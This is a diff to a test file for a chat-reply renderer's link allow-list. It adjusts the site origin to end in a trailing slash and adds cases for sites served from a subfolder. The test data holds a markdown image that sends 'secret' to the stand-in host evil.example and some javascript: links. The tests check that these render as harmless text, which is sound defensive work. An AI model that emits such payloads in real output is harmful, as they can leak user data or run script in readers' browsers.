@@ -57,12 +57,12 @@ describe('a reply', () => {
     '![spy](https://evil.example/?q=secret)',
     '<a href="javascript:alert(1)">x</a>'
   ])('shows %s as the text that it is', (hostile) => {
-    const pieces = inline(hostile, (href) => allowedLink(href, 'https://site.test', []))
+    const pieces = inline(hostile, (href) => allowedLink(href, 'https://site.test/', []))
     expect(pieces?.every(({ kind }) => kind === 'text')).toBe(true)
   })
 
   test('keeps the words of a link that is not allowed', () => {
-    expect(inline('[click](javascript:alert)', (href) => allowedLink(href, 'https://site.test', []))).toEqual([
+    expect(inline('[click](javascript:alert)', (href) => allowedLink(href, 'https://site.test/', []))).toEqual([
       { kind: 'text', text: 'click' }
     ])
   })
@@ -87,5 +87,13 @@ describe('links in replies', () => {
     ['mailto:a@b.test', undefined]
   ])('%s leads to %s', (href, target) => {
     expect(allowedLink(href, origin, ['docs.test'])).toBe(target)
+  })
+
+  test.each([
+    ['/pricing', '/shop/pricing'],
+    ['/shop/pricing', '/shop/pricing'],
+    ['https://site.test/shop/faq#one', '/shop/faq#one']
+  ])('of a site in a folder: %s leads to %s', (href, target) => {
+    expect(allowedLink(href, 'https://site.test/shop/', [])).toBe(target)
   })
 })
